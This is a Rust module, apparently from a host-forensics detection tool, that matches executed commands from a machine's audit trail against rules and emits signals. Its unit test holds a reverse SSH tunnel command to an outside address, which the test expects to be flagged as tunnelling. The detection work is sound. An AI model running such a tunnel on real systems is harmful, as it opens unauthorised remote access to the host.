//! Programs that a machine's own audit trail says ran: a witness beside the transcript of what was run, and of what no
//! transcript tells.

use std::collections::BTreeSet;

use super::command::{CommandLine, LiteralKind, literals};
use super::rules::{CommandContext, RuleSet};
use crate::intake::{ExecutionFact, Facts};
use crate::model::{Signal, SignalSource};

/// One signal for each command and behaviour that a rule knows.
pub fn commands(facts: &Facts, rules: &RuleSet) -> Vec<Signal> {
    facts.executions.iter().flat_map(|fact| of(fact, rules)).collect()
}

fn of(fact: &ExecutionFact, rules: &RuleSet) -> Vec<Signal> {
    let line = CommandLine::parse(&fact.command);
    let mut seen = BTreeSet::new();
    let mut hits = rules.command(&CommandContext { line: &line, text: &fact.command });
    hits.sort_by(|a, b| b.confidence.cmp(&a.confidence).then_with(|| a.id.cmp(&b.id)));
    hits.retain(|hit| seen.insert(hit.behaviour));
    let names: BTreeSet<String> = literals(&line, &fact.command)
        .into_iter()
        .filter_map(|literal| match literal.kind {
            LiteralKind::Host(name) => Some(name),
            _ => None,
        })
        .collect();
    let who = fact.user.as_deref().map_or_else(String::new, |user| format!(", user {user}"));
    let pid = fact.pid.map_or_else(String::new, |pid| format!(", pid {pid}"));
    let times = if fact.count == 1 { String::new() } else { format!(", {} times", fact.count) };
    hits.into_iter()
        .map(|hit| Signal {
            kind: format!("{}-ran", hit.kind),
            confidence: hit.confidence,
            span: fact.first,
            host: fact.host.clone(),
            rule: Some(hit.id.clone()),
            summary: format!("{} ran{who}{pid}{times}: {}", program(fact), hit.title),
            domains: names.iter().cloned().collect(),
            records: vec![fact.record],
            ..Signal::new(hit.behaviour, SignalSource::Host)
        })
        .collect()
}

/// Its path, or the first word of the command.
fn program(fact: &ExecutionFact) -> &str {
    fact.process.as_deref().or_else(|| fact.command.split_whitespace().next()).unwrap_or("a program")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::{EvidenceId, Record};
    use crate::model::{Behaviour, Confidence};

    #[test]
    fn what_ran_is_judged_as_commands_are() {
        let ran = |command: &str, process: &str| ExecutionFact {
            command: command.to_owned(),
            process: Some(process.to_owned()),
            pid: Some(4311),
            user: None,
            host: Some("train-07".to_owned()),
            first: None,
            record: Record { evidence: EvidenceId(0), number: 3 },
            count: 1,
        };
        let facts = Facts {
            executions: vec![
                ran("ssh -f -N -R 2222:localhost:22 u@203.0.113.66", "/usr/bin/ssh"),
                ran("grep -R xmrig /usr/share/doc", "/usr/bin/grep"),
            ],
            ..Facts::default()
        };
        let rules = RuleSet::embedded();
        let signals = commands(&facts, &rules);
        let seen: Vec<_> =
            signals.iter().map(|signal| (signal.behaviour, signal.confidence >= Confidence::Strong)).collect();
        assert_eq!(seen, [(Behaviour::Tunnel, true)]);
        assert!(signals[0].summary.starts_with("/usr/bin/ssh ran, pid 4311: "), "{}", signals[0].summary);
    }
}
